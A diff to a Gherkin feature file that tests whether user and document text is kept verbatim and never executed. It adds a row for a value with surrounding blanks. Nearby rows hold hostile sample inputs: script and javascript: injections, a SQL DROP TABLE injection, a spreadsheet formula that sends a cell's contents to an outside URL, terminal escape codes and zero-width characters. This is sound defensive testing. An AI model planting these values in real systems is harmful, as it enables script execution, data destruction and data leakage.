@@ -24,6 +24,7 @@ Feature: Text from users and documents is data: kept as given, and never obeyed
         | Markup                  | <script>alert(1)</script> & <b>bold</b> [link](javascript:alert(1))               |
         | SQL                     | Robert'); DROP TABLE batches; --                                                  |
         | A formula               | =HYPERLINK("https://example.com/?"&A1)                                            |
+        | Blanks at both ends     | \\u{20}between blanks\\u{20}                                                        |
         | JSON                    | {"dry_run": false, "net_worth": "0"}                                              |
         | Terminal control        | red \\u{1b}[31m text \\u{1b}[0m                                                      |
         | Letters without width   | a\\u{200b}b\\u{200d}c\\u{feff}d                                                      |
